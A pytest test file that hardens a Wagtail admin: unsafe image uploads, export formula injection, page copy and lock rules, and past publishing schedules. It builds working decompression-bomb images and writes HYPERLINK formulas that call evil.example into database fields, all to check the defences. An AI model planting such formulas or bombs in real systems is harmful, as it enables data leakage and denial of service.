"""Hardening of the admin (issue 12): faults that public bug reports of Wagtail sites find, fixed by kind.

Images that cannot be decoded safely, exports that would run formulas, admin actions that hit model
validation, copies that touch their source, schedules that have run.
"""

import io
import struct
import zlib

import pytest
from django.conf import settings
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image as PILImage
from wagtail.images.models import Image

from tests.test_access import client_as, editor  # noqa: F401 - editor is a fixture

pytestmark = pytest.mark.django_db


# --- 5. Images that cannot be decoded safely ----------------------------------------------------------


def _chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_bomb(width=15000, height=12000):
    """A real decompression bomb: 180 million 1-bit pixels of zeros in about 22 KB."""
    compressor = zlib.compressobj(9)
    row = b"\0" * (1 + (width + 7) // 8)
    data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def small(fmt, size=(64, 48), **options):
    buffer = io.BytesIO()
    PILImage.effect_noise(size, 60).convert("RGB").save(buffer, fmt, **options)
    return buffer.getvalue()


def jpeg_bomb():
    data = bytearray(small("JPEG"))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", 65000, 65000)
    return bytes(data)


def gif_bomb():
    data = bytearray(small("GIF"))
    data[6:10] = struct.pack("<HH", 65000, 65000)
    descriptor = data.index(b"\x2c", 13)
    data[descriptor + 5 : descriptor + 9] = struct.pack("<HH", 65000, 65000)
    return bytes(data)


def webp_bomb():
    data = bytearray(small("WEBP", lossless=True))
    assert data[12:16] == b"VP8L"
    bits = int.from_bytes(data[21:25], "little")
    data[21:25] = ((bits & ~((1 << 28) - 1)) | 16383 | (16383 << 14)).to_bytes(4, "little")
    return bytes(data)


def avif_bomb():
    data = bytearray(small("AVIF"))
    ispe = data.index(b"ispe")
    data[ispe + 8 : ispe + 16] = struct.pack(">II", 20000, 20000)
    return bytes(data)


def truncated(fmt, **options):
    data = small(fmt, size=(300, 200), **options)
    return data[: len(data) // 2]


UNDECODABLE = {
    # name: (file name, bytes, what the form says)
    "png bomb": ("bomb.png", png_bomb, "too many pixels to be opened safely"),
    "jpeg bomb": ("bomb.jpg", jpeg_bomb, "too many pixels to be opened safely"),
    "gif bomb": ("bomb.gif", gif_bomb, "too many pixels to be opened safely"),
    "webp bomb": ("bomb.webp", webp_bomb, "too many pixels to be opened safely"),
    # libavif checks the claimed size against the coded one, so a patched header is no bomb, just not an image.
    "avif with a forged size": ("bomb.avif", avif_bomb, "could not be read in full"),
    "truncated png": ("cut.png", lambda: truncated("PNG"), "could not be read in full"),
    "truncated jpeg": ("cut.jpg", lambda: truncated("JPEG"), "could not be read in full"),
    "truncated gif": ("cut.gif", lambda: truncated("GIF"), "could not be read in full"),
    "truncated webp": ("cut.webp", lambda: truncated("WEBP"), "could not be read in full"),
    "png header, random data": (
        "noise.png",
        lambda: small("PNG")[:33] + bytes(range(256)) * 4,
        "could not be read in full",
    ),
    "text named png": ("notes.png", lambda: b"just some words, not an image", "Upload a valid image"),
}


@pytest.mark.parametrize("case", ["png bomb", "jpeg bomb", "gif bomb", "webp bomb"])
def test_the_bombs_are_bombs(case):
    """The premise: Pillow itself refuses to open each of these files."""
    with pytest.raises(PILImage.DecompressionBombError):
        PILImage.open(io.BytesIO(UNDECODABLE[case][1]()))


def stored_originals():
    """The uploaded files (renditions made to show the edit form are not uploads)."""
    root = settings.MEDIA_ROOT / "original_images"
    return {path.name for path in root.rglob("*") if path.is_file()} if root.exists() else set()


def upload(client, path, name, data):
    """POST one image file by one upload path; returns (status, what the page or JSON says)."""
    file = SimpleUploadedFile(name, data, content_type="application/octet-stream")
    if path == "add":
        response = client.post(reverse("wagtailimages:add"), {"title": "Upload", "file": file})
        return response.status_code, response.content.decode()
    if path == "multiple add":
        response = client.post(
            reverse("wagtailimages:add_multiple"), {"files[]": file}, headers={"x-requested-with": "XMLHttpRequest"}
        )
        return response.status_code, response.content.decode()
    if path == "chooser upload":
        response = client.post(
            reverse("wagtailimages_chooser:create"),
            {"image-chooser-upload-title": "Upload", "image-chooser-upload-file": file},
        )
        return response.status_code, response.content.decode()
    if path == "edit (replace file)":
        image = Image.objects.get(title="Existing")
        response = client.post(reverse("wagtailimages:edit", args=[image.pk]), {"title": "Existing", "file": file})
        return response.status_code, response.content.decode()
    raise AssertionError(path)


UPLOAD_PATHS = ["add", "multiple add", "chooser upload", "edit (replace file)"]


@pytest.mark.parametrize("path", UPLOAD_PATHS)
@pytest.mark.parametrize("case", UNDECODABLE)
def test_an_image_that_cannot_be_decoded_safely_is_a_form_error(editor, case, path):  # noqa: F811
    existing = Image.objects.create(title="Existing", file=ContentFile(small("PNG"), name="existing.png"))
    original_file = existing.file.name
    before = stored_originals()
    name, data, message = UNDECODABLE[case]
    status, text = upload(client_as(editor), path, name, data())
    assert status == 200, text[:500]
    assert message in text.replace("\\u201c", "“").replace("\\u201d", "”")
    assert list(Image.objects.values_list("title", "file")) == [("Existing", original_file)]
    assert stored_originals() == before


@pytest.mark.parametrize("path", UPLOAD_PATHS)
def test_a_whole_image_is_still_accepted_by_every_path(editor, path):  # noqa: F811
    Image.objects.create(title="Existing", file=ContentFile(small("PNG"), name="existing.png"))
    status, text = upload(client_as(editor), path, "good.webp", small("WEBP"))
    assert status in (200, 302), text[:500]
    assert Image.objects.filter(file__endswith=".webp").count() == 1


# --- 9. The admin's exports never hand a spreadsheet a formula ------------------------------------------


FORMULA_STARTS = ("=", "+", "-", "@")


def exporting_viewsets():
    """Every snippet listing of the admin that offers an export (found, not listed by hand)."""
    from wagtail.snippets.models import get_snippet_models

    viewsets = [model.snippet_viewset for model in get_snippet_models()]
    return [viewset for viewset in viewsets if isinstance(viewset.list_export, (list, tuple)) and viewset.list_export]


def make_every_text_hostile():
    """Every text column of every partnership row starts like a formula (written past validation, as an import might)."""
    from django.apps import apps
    from django.db import models

    for model in apps.get_app_config("partnership").get_models():
        text_fields = [
            f.name
            for f in model._meta.concrete_fields
            if isinstance(f, (models.CharField, models.TextField))
            and not f.choices
            and f.name != "translation_key"
            and (f.max_length is None or f.max_length >= 60)  # codes (ISO, currency) cannot hold a formula
        ]
        for index, pk in enumerate(model._base_manager.values_list("pk", flat=True)):
            start = FORMULA_STARTS[index % len(FORMULA_STARTS)]
            values = {name: f'{start}HYPERLINK("http://evil.example/{pk}","{name}")' for name in text_fields}
            model._base_manager.filter(pk=pk).update(**values)


def test_every_snippet_export_is_found():
    names = {viewset.model._meta.model_name for viewset in exporting_viewsets()}
    assert {"cooperationentry", "partner", "programme"} <= names


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_admin_exports_neutralise_formulas_like_the_public_export(loaded, admin_client, export_format):
    import csv

    from openpyxl import load_workbook

    from partnership.serializers import csv_cell

    make_every_text_hostile()
    for viewset in exporting_viewsets():
        response = admin_client.get(reverse(viewset.get_url_name("list")), {"export": export_format})
        assert response.status_code == 200, viewset.model
        content = b"".join(response.streaming_content) if response.streaming else response.content
        if export_format == "csv":
            rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        else:
            rows = [list(row) for row in load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True)]
        cells = [cell for row in rows[1:] for cell in row if isinstance(cell, str)]
        hostile = [cell for cell in cells if "evil.example" in cell]
        assert hostile, f"{viewset.model.__name__}: the hostile text was not exported at all"
        assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == [], viewset.model.__name__
        # Exactly the public export's neutralisation: a leading quote, nothing else changed.
        assert all(cell == csv_cell(cell[1:]) for cell in hostile if cell.startswith("'")), viewset.model.__name__


# --- 6. Admin actions that hit model validation ------------------------------------------------------


def page_counts():
    from wagtail.models import Page, Revision

    return Page.objects.count(), Revision.objects.count()


@pytest.mark.parametrize("alias", [False, True])
def test_copying_a_partner_page_is_refused_up_front(loaded, admin_client, alias):
    from cms.models import PartnerPage

    page = PartnerPage.objects.get()
    before = page_counts()
    form = {
        "new_title": "Relations with Japan (copy)",
        "new_slug": "japan-copy",
        "new_parent_page": page.get_parent().pk,
        "copy_subpages": "",
        "publish_copies": "",
        **({"alias": "on"} if alias else {}),
    }
    response = admin_client.post(reverse("wagtailadmin_pages:copy", args=[page.pk]), form, follow=True)
    assert response.status_code == 200
    assert "cannot be copied: a partner has one page per language" in response.content.decode()
    assert page_counts() == before
    # The copy form itself is not offered either.
    response = admin_client.get(reverse("wagtailadmin_pages:copy", args=[page.pk]), follow=True)
    assert "cannot be copied" in response.content.decode() and 'name="new_slug"' not in response.content.decode()


def test_the_admin_api_copy_is_refused_the_same_way(loaded, admin_client):
    from cms.models import PartnerPage

    page = PartnerPage.objects.get()
    before = page_counts()
    response = admin_client.post(
        f"/admin/api/main/pages/{page.pk}/action/copy/",
        {"destination_page_id": page.get_parent().pk, "slug": "japan-copy"},
    )
    assert response.status_code == 400 and "cannot be copied" in response.json()["message"]
    assert page_counts() == before


@pytest.fixture
def invalid_copy(loaded):
    """A draft that breaks a model rule (a second page about Japan), made as an import or an old copy might have."""
    from cms.models import PartnerPage
    from partnership.models import Partner

    page = PartnerPage.objects.get()
    other = Partner.objects.create(name="Elsewhere", slug="elsewhere", framework=page.partner.framework)
    attrs = {"title": "Relations with Japan (2)", "slug": "japan-2", "live": False, "partner": other}
    copy = page.copy(update_attrs=attrs)
    PartnerPage.objects.filter(pk=copy.pk).update(partner=page.partner)
    copy = PartnerPage.objects.get(pk=copy.pk)
    copy.save_revision(clean=False)
    return copy


def test_a_bulk_publish_that_the_model_refuses_is_a_message(invalid_copy, admin_client):
    from wagtail.models import Page

    from tests.conftest import database_snapshot

    before = database_snapshot()
    response = admin_client.post(f"/admin/bulk/wagtailcore/page/publish/?id={invalid_copy.pk}&next=/admin/", {})
    assert response.status_code == 302
    assert "already about this partner" in admin_client.get(response["Location"]).content.decode()
    assert not Page.objects.get(pk=invalid_copy.pk).live
    assert database_snapshot() == before


# --- 1. A copy never modifies its source; locks hold on every state-changing URL ----------------------


def test_posting_to_a_copy_url_answers_405_and_leaves_the_source_alone(loaded, django_user_model):
    from django.contrib.auth.models import Group

    from partnership.models import CooperationEntry
    from tests.test_editors import entry_form

    user = django_user_model.objects.create_user("editor", password="editor-password-1")
    user.groups.add(Group.objects.get(name="Editors"))
    entry = CooperationEntry.objects.get(slug="japan-liaison-officer-maritime-command")
    before = CooperationEntry.objects.filter(pk=entry.pk).values().get(), CooperationEntry.objects.count()
    client = client_as(user)
    url = reverse("wagtailsnippets_partnership_cooperationentry:copy", args=[entry.pk])
    response = client.post(url, entry_form(entry, title="Copied", slug="copied"))
    assert response.status_code == 405
    assert (CooperationEntry.objects.filter(pk=entry.pk).values().get(), CooperationEntry.objects.count()) == before
    assert client.get(url).status_code == 200  # the copy form itself still opens (it posts to the add URL)


def test_a_copy_url_of_any_kind_takes_no_post(loaded, admin_client, django_user_model):
    """Wagtail's other generic copy views (users, sites) had the same fault: a POST saved over the original."""
    victim = django_user_model.objects.create_user("victim", password="victim-password-1", email="v@example.org")
    response = admin_client.post(
        reverse("wagtailusers_users:copy", args=[victim.pk]),
        {"username": "victim", "email": "evil@example.org", "first_name": "Evil", "last_name": "X", "is_active": "on"},
    )
    assert response.status_code == 405
    victim.refresh_from_db()
    assert victim.email == "v@example.org" and victim.first_name == ""


def test_deleting_a_page_locked_by_someone_else_is_refused_with_the_lock_message(
    loaded, admin_client, django_user_model
):
    from cms.models import PartnerPage

    holder = django_user_model.objects.create_user("holder", first_name="Hana", last_name="Holder")
    page = PartnerPage.objects.get()
    from django.utils import timezone

    page.locked, page.locked_by, page.locked_at = True, holder, timezone.now()
    page.save()
    response = admin_client.post(reverse("wagtailadmin_pages:delete", args=[page.pk]), follow=True)
    assert response.status_code == 200
    messages = [str(message) for message in response.context["messages"]]
    assert len(messages) == 1 and "was locked</b> by <b>Hana Holder</b>" in messages[0]
    assert PartnerPage.objects.filter(pk=page.pk, live=True).exists()


# --- 10. A schedule that has run never blocks the next save ------------------------------------------


def minutes_from_now(minutes):
    import datetime

    from django.utils import timezone

    return (timezone.now() + datetime.timedelta(minutes=minutes)).strftime("%Y-%m-%d %H:%M")


@pytest.fixture
def later():
    """Moves the clock on by ``minutes`` for everything that reads timezone.now() (Wagtail, the command)."""
    import contextlib
    import datetime
    from unittest import mock

    from django.utils import timezone

    real_now = timezone.now

    @contextlib.contextmanager
    def move(minutes):
        with mock.patch("django.utils.timezone.now", lambda: real_now() + datetime.timedelta(minutes=minutes)):
            yield

    return move


def scheduled_objects():
    from cms.models import PartnerPage
    from partnership.models import CooperationEntry
    from tests.test_editors import entry_form, page_form

    entry = CooperationEntry.objects.get(slug="japan-liaison-officer-maritime-command")
    page = PartnerPage.objects.get()
    return {
        "entry": (entry, reverse("wagtailsnippets_partnership_cooperationentry:edit", args=[entry.pk]), entry_form),
        "page": (page, reverse("wagtailadmin_pages:edit", args=[page.pk]), page_form),
    }


@pytest.mark.parametrize("kind", ["entry", "page"])
@pytest.mark.parametrize("action", ["save draft", "publish"])
def test_a_schedule_that_has_run_never_blocks_the_next_save(loaded, admin_client, later, kind, action):
    from django.core.management import call_command

    obj, url, form = scheduled_objects()[kind]
    schedule = {"go_live_at": minutes_from_now(1), "expire_at": minutes_from_now(2)}
    response = admin_client.post(url, form(obj, **schedule, **{"action-publish": "publish"}))
    assert response.status_code == 302
    with later(3):
        call_command("publish_scheduled", stdout=io.StringIO())
        call_command("publish_scheduled", stdout=io.StringIO())
        obj.refresh_from_db()
        assert obj.expired and not obj.live  # the schedule has run: live at +1 min, expired at +2 min
        # The edit form shows the stored (past) dates again; the editor changes the title only.
        data = form(obj, title="After the schedule", **schedule)
        if action == "publish":
            data["action-publish"] = "publish"
        response = admin_client.post(url, data)
        assert response.status_code == 302, "Expiry date/time must be in the future" in response.content.decode()
        obj.refresh_from_db()
        latest = obj.get_latest_revision_as_object()
        assert latest.title == "After the schedule"
        assert latest.expire_at is None  # the schedule that has run is not carried into the new revision
        assert obj.live is (action == "publish")


def test_a_past_expiry_the_editor_types_is_still_refused(loaded, admin_client):
    obj, url, form = scheduled_objects()["entry"]
    response = admin_client.post(url, form(obj, expire_at=minutes_from_now(-5)))
    assert response.status_code == 200
    assert "Expiry date/time must be in the future" in response.content.decode()


@pytest.mark.parametrize(
    ("url", "message"),
    [
        ("/admin/documents/?q=report&usage_count_min=1", "cannot be combined"),
        ("/admin/images/?q=photo&usage_count_max=3", "cannot be combined"),
        ("/admin/images/?collection_id=" + "1" * 30, "too large"),
        ("/admin/choose-page/search/?q=%22%24", None),  # SQLite: a 400 saying why; PostgreSQL: the results
    ],
)
def test_admin_listing_parameters_that_broke_wagtail_are_a_400(loaded, admin_client, url, message):
    response = admin_client.get(url)
    assert response.status_code < 500
    if message:
        assert response.status_code == 400 and message in response.content.decode()
